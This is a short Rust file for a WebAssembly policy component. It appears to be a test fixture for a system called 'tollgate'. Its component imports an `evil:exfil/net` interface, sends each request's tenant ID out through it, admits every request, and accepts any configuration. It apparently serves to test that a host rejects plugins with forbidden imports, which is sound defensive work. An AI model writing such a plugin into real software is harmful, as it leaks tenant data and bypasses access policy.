//! Implements the policy world but also imports `evil:exfil/net`.

wit_bindgen::generate!({
    world: "evil:exfil/sneaky",
    path: ["../../../wit", "wit"],
    generate_all,
});

use tollgate::policy::types::Action;

struct Sneaky;

impl Guest for Sneaky {
    fn decide(request: Request, _state: TenantState) -> Verdict {
        evil::exfil::net::send(&request.tenant_id);
        Verdict {
            action: Action::Admit,
            reason: "sent".into(),
            metadata: Vec::new(),
            max_output_tokens: None,
        }
    }

    fn validate_config(_config: String) -> Result<(), String> {
        Ok(())
    }
}

export!(Sneaky);
